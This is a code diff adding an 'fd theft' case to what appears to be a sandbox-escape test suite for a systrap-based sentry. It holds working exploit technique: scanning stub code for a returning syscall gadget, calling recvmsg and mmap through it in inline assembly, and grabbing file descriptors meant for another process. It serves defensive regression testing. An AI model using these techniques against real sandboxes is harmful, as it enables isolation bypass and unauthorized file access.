@@ -11,11 +11,17 @@
  * instructions of the systrap stub's code with crafted registers; then
  * remapping, reprotecting and overwriting the stub's code, and scribbling
  * over the child's own shared slot: each may at most kill the child, and the
- * sentry must go on serving this process.
+ * sentry must go on serving this process.  Last, fd theft: a process that
+ * receives on the stub's fd-passing socket (fd 3, through the stub's own
+ * syscall instruction) while another process maps a file must get nothing
+ * (the sentry hands each stub process's fds over a socket of its own).
  */
 #include "attack.h"
 
+#include <sched.h>
 #include <setjmp.h>
+#include <sys/socket.h>
+#include <sys/uio.h>
 #include <sys/mman.h>
 
 #define STUB_START 0x7e0000000000UL
@@ -217,6 +223,172 @@ static void a_nothing(void *arg)
     (void)arg;
 }
 
+/* --- fd theft ------------------------------------------------------------- */
+
+/* A syscall instruction of the stub that returns to its caller when the
+ * result is not 0: "syscall; test %rax,%rax; jz X; pop %r1N..." then "ret"
+ * (systrap_do_clone's).  Its address, and how many words it pops. */
+static uintptr_t ret_gadget;
+static int ret_gadget_pops;
+
+static void find_ret_gadget(void)
+{
+    for (int i = 0; i < n_stub_syscalls; i++) {
+        const unsigned char *c = (const unsigned char *)stub_syscalls[i];
+        if (!readable(c + 16) || c[2] != 0x48 || c[3] != 0x85 || c[4] != 0xc0 || c[5] != 0x74)
+            continue;
+        int pops = 0, k = 7;
+        while (pops < 4 && c[k] == 0x41 && c[k + 1] >= 0x58 && c[k + 1] <= 0x5f) {
+            pops++;
+            k += 2;
+        }
+        if (c[k] == 0xc3) {
+            ret_gadget = (uintptr_t)c;
+            ret_gadget_pops = pops;
+            return;
+        }
+    }
+}
+
+/* A host syscall made by the stub's code for us (the gadget), as guest code
+ * that took over a stub process would make it: the stub's filter allows
+ * recvmsg on fd 3 and mmap from there. */
+static long gadget_syscall(long nr, long a0, long a1, long a2, long a3, long a4, long a5)
+{
+    long ret;
+    register long r10 __asm__("r10") = a3;
+    register long r8 __asm__("r8") = a4;
+    register long r9 __asm__("r9") = a5;
+    __asm__ volatile("sub $128, %%rsp\n\t"          /* our red zone */
+                     "lea 1f(%%rip), %%rcx\n\t"
+                     "push %%rcx\n\t"                /* what the gadget's ret takes */
+                     "mov %[pops], %%ecx\n\t"
+                     "2: test %%ecx, %%ecx\n\t"
+                     "jz 3f\n\t"
+                     "push $0\n\t"                   /* what its pops take */
+                     "dec %%ecx\n\t"
+                     "jmp 2b\n\t"
+                     "3: jmp *%[g]\n\t"
+                     "1: add $128, %%rsp"
+                     : "=a"(ret), "+r"(r10), "+r"(r8), "+r"(r9)
+                     : "a"(nr), "D"(a0), "S"(a1), "d"(a2), [g] "b"(ret_gadget),
+                       [pops] "m"(ret_gadget_pops)
+                     : "rcx", "r11", "r12", "r13", "r14", "r15", "memory", "cc");
+    return ret;
+}
+
+#define FDSTEAL_MAPS 3000
+#define FDSTEAL_MARK "fd-theft-victim-"
+
+struct fdsteal {
+    volatile int victim_done;   /* shared between the processes (MAP_SHARED) */
+    volatile int thief_ready;
+    int victim_failures;
+    int stolen;                 /* fds the thief received */
+    int read_victim;            /* ... of which it mapped the victim's file */
+    char path[64];
+    char page[4096] __attribute__((aligned(4096)));
+};
+
+/* The victim: another process (another address space) mapping a file of
+ * its own, over and over; each mapping hands the file's host fd to its
+ * stub. */
+static void a_fdsteal_victim(void *arg)
+{
+    struct fdsteal *fs = arg;
+    int fd = open(fs->path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        _exit(2);
+    for (int i = 0; i < 1000000 && !fs->thief_ready; i++)
+        sched_yield();
+    for (int i = 0; i < FDSTEAL_MAPS; i++) {
+        void *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
+        if (p == MAP_FAILED)
+            fs->victim_failures++;
+        else
+            munmap(p, 4096);
+    }
+    fs->victim_done = 1;
+    _exit(0);
+}
+
+/* The thief: receives on its stub's fd-passing socket meanwhile, and maps
+ * what it gets over its own page. */
+static void a_fdsteal_thief(void *arg)
+{
+    struct fdsteal *fs = arg;
+    char byte;
+    struct iovec iov = {&byte, 1};
+    union {
+        struct cmsghdr h;
+        char buf[CMSG_SPACE(sizeof(int))];
+    } control;
+    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
+    fs->thief_ready = 1;
+    for (long i = 0; i < 100000000L && !fs->victim_done; i++) {
+        msg.msg_control = control.buf;
+        msg.msg_controllen = sizeof control.buf;
+        long r = gadget_syscall(SYS_recvmsg, 3, (long)&msg, MSG_DONTWAIT, 0, 0, 0);
+        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+        if (r <= 0 || !c || c->cmsg_type != SCM_RIGHTS)
+            continue;
+        int fd;
+        memcpy(&fd, CMSG_DATA(c), sizeof fd);
+        fs->stolen++;
+        long m = gadget_syscall(SYS_mmap, (long)fs->page, 4096, PROT_READ,
+                                MAP_SHARED | MAP_FIXED, fd, 0);
+        if (m == (long)fs->page && memcmp(fs->page, FDSTEAL_MARK, strlen(FDSTEAL_MARK)) == 0)
+            fs->read_victim++;
+    }
+    _exit(0);
+}
+
+static void attack_fdsteal(void)
+{
+    if (!ret_gadget) {
+        refused("fdpass-steal", "no returning syscall gadget in the stub (ptrace platform: "
+                "guest code makes no host syscall)");
+        return;
+    }
+    struct fdsteal *fs = mmap(NULL, sizeof *fs, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS,
+                              -1, 0);
+    if (fs == MAP_FAILED) {
+        printf("setup: mmap: %s\n", strerror(errno));
+        return;
+    }
+    snprintf(fs->path, sizeof fs->path, "/tmp/fdsteal.%d", getpid());
+    int fd = open(fs->path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
+    char content[4096] = FDSTEAL_MARK;
+    if (fd < 0 || write(fd, content, sizeof content) != sizeof content) {
+        printf("setup: %s: %s\n", fs->path, strerror(errno));
+        return;
+    }
+    close(fd);
+    pid_t thief = fork();
+    if (thief == 0)
+        a_fdsteal_thief(fs);
+    pid_t victim = fork();
+    if (victim == 0)
+        a_fdsteal_victim(fs);
+    int st_thief = 0, st_victim = 0;
+    waitpid(victim, &st_victim, 0);
+    fs->victim_done = 1;
+    waitpid(thief, &st_thief, 0);
+    unlink(fs->path);
+    printf("    %d mappings by the victim (%d failed); the thief received %d fds, %d of them "
+           "the victim's file; thief status %#x\n", FDSTEAL_MAPS, fs->victim_failures,
+           fs->stolen, fs->read_victim, st_thief);
+    if (fs->stolen > 0)
+        escaped("fdpass-steal", "received %d fds meant for another process's stub (%d mapped "
+                "its file)", fs->stolen, fs->read_victim);
+    else if (fs->victim_failures > 0)
+        escaped("fdpass-steal", "the victim's mappings failed %d times", fs->victim_failures);
+    else
+        refused("fdpass-steal", "nothing received on fd 3 while another process mapped a "
+                "file %d times", FDSTEAL_MAPS);
+    munmap(fs, sizeof *fs);
+}
+
 int main(int argc, char **argv)
 {
     attack_begin("proc");
@@ -267,6 +439,8 @@ int main(int argc, char **argv)
     expect_fail("munmap-stub", munmap((void *)STUB_START, STUB_CODE_LEN) == 0 &&
                                        !readable((unsigned char *)STUB_START) ? 0 : -1);
     expect_fail("mremap-stub", (long)mremap((void *)STUB_START, 4096, 8192, MREMAP_MAYMOVE) == -1 ? -1 : 0);
+    find_ret_gadget();
+    attack_fdsteal();
     run_attack("write-stub-code", a_write_stub_code, NULL);
     run_attack("scribble-own-slot", a_scribble_slots, NULL);
     closed_file_window();
